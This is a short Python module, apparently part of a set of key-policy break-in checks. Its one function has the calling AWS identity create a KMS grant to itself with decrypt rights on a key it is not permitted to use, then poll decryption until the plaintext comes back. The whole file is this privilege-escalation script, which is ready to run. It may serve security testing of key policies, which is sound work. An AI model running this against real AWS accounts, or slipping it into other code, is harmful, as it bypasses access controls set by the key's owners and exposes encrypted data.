"""key-policies/break-in: the plaintext, for a role that may not decrypt."""

import time

import boto3


def break_in(kms, key_id: str, ciphertext: bytes) -> bytes:
    """The plaintext, by a grant for this very session that is waited for."""
    me = boto3.client("sts").get_caller_identity()["Arn"]
    boto3.client("kms").create_grant(
        KeyId=key_id, GranteePrincipal=me, Operations=["Encrypt", "Decrypt", "DescribeKey"]
    )
    for _ in range(60):
        try:
            return kms.decrypt(KeyId=key_id, CiphertextBlob=ciphertext)["Plaintext"]
        except kms.exceptions.ClientError:
            time.sleep(10)
    return b""
